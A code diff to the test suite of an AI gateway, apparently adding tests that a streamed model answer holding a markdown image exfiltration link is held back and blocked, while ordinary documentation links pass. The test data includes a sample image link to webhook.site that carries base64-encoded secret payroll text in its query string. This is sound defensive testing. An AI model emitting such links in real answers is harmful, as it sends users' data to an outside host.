@@ -8,6 +8,7 @@ import base64
 from typing import Any
 
 import httpx
+import orjson
 import pytest
 
 from tests.conftest import ADMIN_HEADERS, Gateway
@@ -321,14 +322,39 @@ async def test_artifact_links_use_the_pipeline_allowed_domains(proxied: Gateway)
     assert "artifact_verification=allow" in ok.headers["x-tappass-steps"]
 
 
-async def test_a_streamed_answer_is_recorded_as_not_checked(gateway: Gateway) -> None:
-    key = await gateway.add_agent(preset="regulated")
-    response = await gateway.chat(key, "hello there", stream=True)
+@pytest.mark.parametrize("cut", [3, 20, 41, 60])
+async def test_a_markdown_image_exfiltration_in_a_stream_is_blocked_before_it_is_sent(
+        gateway: Gateway, cut: int) -> None:
+    from tests.server.stream_support import events, script, streamed_text
+
+    image = "![chart](https://webhook.site/3f1c?data=U2VjcmV0IHBheXJvbGwgZGF0YQ==)"
+    answer = "Here is the summary you asked for. " + image + " Anything else?"
+    at = answer.index(image) + cut
+    script(gateway, [answer[:at], answer[at:]])
+    key = await gateway.add_agent(preset="regulated", flags={"pii": "off"})
+    response = await gateway.chat(key, "summarise", model="tappass/echo", stream=True)
     assert response.status_code == 200
+    payloads = events(response.text)
+    assert "webhook.site" not in response.text and "U2VjcmV0" not in response.text
+    assert streamed_text(payloads) == ""                   # held, then the stream ended
+    error = orjson.loads(payloads[-1])["error"]
+    assert error["step"] in ("check_exfiltration", "artifact_verification")
+    event = await gateway.event(response.headers["x-tappass-audit-id"])
+    assert event["status"] == "blocked"
+
+
+async def test_a_streamed_answer_with_ordinary_links_passes(gateway: Gateway) -> None:
+    from tests.server.stream_support import events, script, streamed_text
+
+    answer = "See [the guide](https://docs.python.org/3/library/re.html) for details. " * 3
+    script(gateway, [answer[:50], answer[50:120], answer[120:]])
+    key = await gateway.add_agent(preset="regulated", flags={"pii": "off"})
+    response = await gateway.chat(key, "docs?", model="tappass/echo", stream=True)
+    assert streamed_text(events(response.text)) == answer
     event = await gateway.event(response.headers["x-tappass-audit-id"])
     for step_id in ("check_exfiltration", "artifact_verification"):
         step = next(s for s in event["steps"] if s["step"] == step_id and s["phase"] == "after")
-        assert step["verdict"] == "flag" and "streamed answer not checked" in step["reason"]
+        assert step["verdict"] == "allow"
 
 
 async def test_an_anthropic_image_block_is_inspected_after_translation(gateway: Gateway) -> None:
